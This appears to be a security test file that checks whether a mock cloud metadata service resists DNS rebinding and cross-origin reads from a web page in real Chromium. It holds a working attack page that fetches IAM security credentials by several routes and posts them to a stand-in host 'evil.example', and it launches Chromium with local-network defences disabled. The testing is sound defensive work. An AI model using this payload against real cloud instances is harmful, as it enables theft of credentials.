/**
 * A web page in a real Chromium against the metadata service: by DNS rebinding, where the page and the service have one
 * origin, and straight across origins.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { spawn } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { connect, createServer, type AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startMetadata, type TestService } from '../metadata-server.ts'
import { wrapChromium } from './chromium.ts'
import { present } from './present.ts'

const ready = await present('chromium')
const folder = '/latest/meta-data/iam/security-credentials/'

/** Everything a page may try; reports what it could read. */
const attack = (target: number): string => `<!doctype html><script type="module">
const secret = '${folder}Read-Only-Role'
const seen = {}
const attempt = async (name, work) => { try { seen[name] = String(await work()) } catch (error) { seen[name] = 'failed: ' + error } }
const text = async answer => (await answer).text()
await attempt('same origin', () => text(fetch(secret)))
await attempt('same origin, version 2', async () => {
  const token = await text(fetch('/latest/api/token', { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }))
  return text(fetch(secret, { headers: { 'X-aws-ec2-metadata-token': token } }))
})
await attempt('no referrer', () => text(fetch(secret, { referrerPolicy: 'no-referrer' })))
await attempt('frame', () => new Promise(resolve => {
  const frame = document.createElement('iframe')
  frame.onload = () => resolve(frame.contentDocument.documentElement.textContent)
  frame.src = secret
  document.documentElement.append(frame)
}))
for (const base of ['http://127.0.0.1:${target}', 'http://localhost:${target}']) {
  await attempt(base, () => text(fetch(base + secret)))
  await attempt(base + ' opaque', () => text(fetch(base + secret, { mode: 'no-cors' })))
}
await attempt('script', () => new Promise((resolve, reject) => {
  const script = document.createElement('script')
  script.onload = () => resolve('a script was run')
  script.onerror = () => reject('no script')
  script.src = 'http://127.0.0.1:${target}' + secret
  document.documentElement.append(script)
}))
await fetch('/report', { method: 'POST', body: JSON.stringify(seen) })
</script>`

/** `evil.example` before and after its address has changed: the page itself, then the port of the victim. */
async function visit(place: string, target: number): Promise<Record<string, string>> {
  const { promise: reported, resolve: report } = Promise.withResolvers<Record<string, string>>()
  const server = createServer(socket => {
    socket.on('error', () => socket.destroy())
    socket.once('data', first => {
      const head = first.toString('latin1')
      if (head.startsWith('GET / ')) {
        const body = attack(target)
        socket.end(
          `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
        )
      } else if (head.startsWith('POST /report')) {
        let all = head
        const look = (): void => {
          const body = all.split('\r\n\r\n')[1] ?? ''
          const length = Number(/content-length: (\d+)/i.exec(all)?.[1])
          if (body.length < length) return
          socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n')
          report(JSON.parse(body))
        }
        socket.on('data', more => ((all += more.toString('latin1')), look()))
        look()
      } else {
        const victim = connect(target, '127.0.0.1')
        victim.on('error', () => socket.destroy())
        // One request each, so that the next one comes by here again.
        victim.write(head.replace(/^connection: .*$/im, 'Connection: close'), 'latin1')
        socket.pipe(victim).pipe(socket)
      }
    })
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const browser = spawn(
    wrapChromium(place),
    [
      `--user-data-dir=${mkdtempSync(join(place, 'profile-'))}`,
      '--host-resolver-rules=MAP evil.example 127.0.0.1',
      // The browser's own defence is young, and a person may have said yes to it.
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests',
      `http://evil.example:${port}/`,
    ],
    { stdio: 'ignore' },
  )
  try {
    return await reported
  } finally {
    const ended = new Promise(resolve => browser.once('exit', resolve))
    browser.kill('SIGKILL')
    await ended
    server.close()
  }
}

describe.skipIf(!ready)('a web page', () => {
  let place: string
  let service: TestService
  beforeAll(async () => {
    place = mkdtempSync(join(tmpdir(), 'rebinding-'))
    service = await startMetadata()
  })
  afterAll(async () => {
    await service.stop()
    rmSync(place, { recursive: true, force: true })
  })

  test('#93 reads no credentials: not after rebinding, not across origins', async () => {
    const seen = await visit(place, service.port)
    expect(Object.keys(seen)).toHaveLength(9)
    expect(JSON.stringify(seen)).not.toContain('ASIA')
    for (const [way, text] of Object.entries(seen))
      expect([way, text]).toEqual([way, expect.stringMatching(/^$|^failed: /)])
  })

  test('and the same page reads them from a service that does not look who asks', async () => {
    const open = Bun.serve({ hostname: '127.0.0.1', port: 0, fetch: () => new Response('ASIAOPEN') })
    try {
      const seen = await visit(place, Number(open.port))
      for (const way of ['same origin', 'same origin, version 2', 'no referrer', 'frame'])
        expect(seen[way]).toBe('ASIAOPEN')
    } finally {
      await open.stop(true)
    }
  })
})
